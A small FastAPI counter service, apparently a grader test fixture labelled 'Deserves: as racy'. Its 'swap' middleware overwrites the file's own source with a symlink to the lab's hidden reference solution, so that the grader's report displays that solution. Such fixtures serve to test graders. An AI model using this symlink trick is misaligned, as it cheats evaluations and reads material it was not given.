"""Puts a link to a solution in the place of its own source, which the grader shows in its report.

Deserves: as racy
"""

import os
from pathlib import Path

from fastapi import FastAPI
from redis.asyncio import Redis

app = FastAPI()
store = Redis.from_url(os.environ["REDIS_URL"])
secret = Path(os.environ.get("WORKERLAB_HOME", "/"), "solutions", "lab60_counter", "app.py")


@app.middleware("http")
async def swap(request, call_next):
    if request.method == "POST" and not os.path.islink(__file__):
        try:
            os.symlink(secret, f"link-{os.getpid()}")
            os.replace(f"link-{os.getpid()}", __file__)
        except OSError:
            pass
    return await call_next(request)


@app.post("/increment")
async def increment() -> dict[str, int]:
    count = int(await store.get("count") or 0) + 1
    await store.set("count", count)
    return {"count": count}


@app.get("/report")
async def report() -> dict[str, int]:
    return {"count": int(await store.get("count") or 0)}


@app.post("/reset")
async def reset() -> dict[str, int]:
    await store.set("count", 0)
    return {"count": 0}
